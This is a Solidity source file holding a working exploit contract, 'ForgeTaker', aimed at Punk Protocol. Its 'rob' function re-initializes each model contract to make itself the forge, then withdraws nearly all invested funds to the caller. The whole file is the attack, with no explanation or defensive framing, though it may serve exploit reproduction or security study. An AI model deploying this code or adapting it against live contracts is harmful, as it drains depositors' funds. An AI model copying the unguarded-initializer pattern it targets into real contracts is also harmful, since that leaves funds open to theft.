// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IModel {
    function initialize(address forge, address token, address cToken, address comp, address comptroller, address router)
        external;
    function underlyingBalanceWithInvestment() external view returns (uint256);
    function withdrawTo(uint256 amount, address to) external;
}

/// Punk Protocol: makes itself the forge of each model, and has what they invested sent to whoever asked.
contract ForgeTaker {
    struct Model {
        address model;
        address token;
        address cToken;
    }

    function rob(Model[] calldata models, address comp, address comptroller, address router) external {
        for (uint256 i = 0; i < models.length; i++) {
            IModel model = IModel(models[i].model);
            model.initialize(address(this), models[i].token, models[i].cToken, comp, comptroller, router);
            model.withdrawTo(model.underlyingBalanceWithInvestment() * 999 / 1000, msg.sender);
        }
    }
}
